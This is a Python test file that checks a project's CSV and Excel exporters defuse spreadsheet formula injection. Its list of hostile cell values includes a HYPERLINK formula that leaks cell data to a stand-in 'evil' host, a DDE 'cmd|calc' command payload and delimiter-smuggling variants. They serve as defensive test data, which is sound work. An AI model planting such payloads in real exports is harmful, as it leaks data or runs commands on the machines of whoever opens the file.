"""No cell of any table is a formula, in a spreadsheet that splits at `,`, `;` or tabs."""

from __future__ import annotations

import ast
import csv
import sys
from io import BytesIO, StringIO
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.pace import few
from tests.test_house import MODULES, imports_of
from troubleshoot.errors import TroubleshootError
from troubleshoot.storage.table import csv_bytes, csv_text, is_workbook, table_bytes
from troubleshoot.text import inert

FORMULA = "=+-@|%＝＋－＠"
HOSTILE = (
    'Kelurahan A;=HYPERLINK("http://evil/?x="&A1)',
    "Jl. X;=cmd|'/C calc'!A0",
    "＝1+1",
    'a;"=1+1',
    "a; \t＋62",
    "a\n=1",
    "\ufeff=1",
    "a\t@x",
    'x";=1',
    "a,=1",
    '"=1"',
    "\r\n=1",
    "a\r=1",
    "\x00=1",
    "|calc",
    "%0A=1",
    'a; "|calc',
    "a\t%x",
)


def _split(text: str, separator: str) -> list[str]:
    return [cell for row in csv.reader(StringIO(text), delimiter=separator) for cell in row]


def _is_inert(cell: str) -> bool:
    bare = cell.lstrip('" \t\ufeff\x00')
    return not bare.startswith(tuple(FORMULA)) or bare.removeprefix("-").isdigit()


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("cell", HOSTILE)
def test_it_stays_text(cell: str, separator: str) -> None:
    for row in ([cell], ["a", cell, "b"], [cell, cell]):
        cells = _split(csv_text([["h"], row]), separator)
        assert all(map(_is_inert, cells)), cells


@given(st.lists(st.text("=+-@＝;,\t\n\r\"' 1a|%", max_size=8), min_size=1, max_size=4))
def test_whatever_stands_in_it(row: list[str]) -> None:
    for separator in ",;\t":
        cells = _split(csv_text([["h", "i"], row]), separator)
        assert all(map(_is_inert, cells)), cells


def test_a_file_has_its_mark_and_numbers_stay_numbers() -> None:
    data = csv_bytes([["a", "b"], ["Siti; Budi", -10]])
    assert data == b"\xef\xbb\xbfa,b\r\nSiti; Budi,-10\r\n"
    assert csv_text([[-1, "cmd|x"]]) == "'-1,cmd|x\r\n"  # where `;` separates, this is one cell


def _cells(data: bytes) -> list[tuple[object, str, str]]:
    """Value, kind and number format of each cell, as another library reads them."""
    from openpyxl import load_workbook

    sheet = load_workbook(BytesIO(data)).worksheets[0]
    return [(c.value, c.data_type, c.number_format) for row in sheet.rows for c in row]


@pytest.mark.parametrize(
    "cell", [*HOSTILE, "=1+1", "{=1}", "-2+3", "http://evil/", "a\ufffe", "🙂" * 20_000]
)
def test_a_workbook_holds_text_and_no_formula_or_link(cell: str) -> None:
    ((value, kind, form),) = _cells(table_bytes([[cell]], workbook=True))
    assert (kind, form) == ("s", "@")
    assert str(value)[:1] == inert(cell).lstrip("\r")[:1]
    assert len(str(value).encode("utf-16-le")) // 2 <= 32_767


@settings(max_examples=few(25), deadline=None)
@given(st.lists(st.text(max_size=12), min_size=1, max_size=5))
def test_a_workbook_can_be_read_whatever_stands_in_it(row: list[str]) -> None:
    kinds = {kind for _, kind, _ in _cells(table_bytes([["h"], row], workbook=True))}
    assert kinds <= {"s", "n"}


def test_in_a_workbook_numbers_are_numbers_but_no_telephone_is() -> None:
    row: list[str | int] = [5, "-10", "200", "081234567890", "3275012345678901", "", "1e5"]
    found = _cells(table_bytes([row], workbook=True))
    assert [value for value, _, _ in found] == [
        *(5, -10, 200, "081234567890", "3275012345678901", None, "1e5")
    ]


def test_the_heading_of_a_workbook_stays_in_sight() -> None:
    from openpyxl import load_workbook

    sheet = load_workbook(BytesIO(table_bytes([["Unit"], ["Podosugih"]], workbook=True))).active
    assert sheet is not None
    assert sheet.freeze_panes == "A2"


def test_without_the_extra_one_sentence_says_how_to_get_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
    assert not is_workbook(Path("a.csv"))
    with pytest.raises(TroubleshootError) as refused:
        is_workbook(Path("a.XLSX"))
    for language in ("id", "en"):
        assert "pip install 'troubleshoot[xlsx]'" in refused.value.text.in_(language)


def test_nobody_else_writes_tables() -> None:
    found = {name for name, path in MODULES.items() if "csv" in imports_of(path)}
    calls = {
        name
        for name in found
        for node in ast.walk(ast.parse(MODULES[name].read_text("utf-8")))
        if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter")
    }
    assert calls == {"troubleshoot.storage.table"}
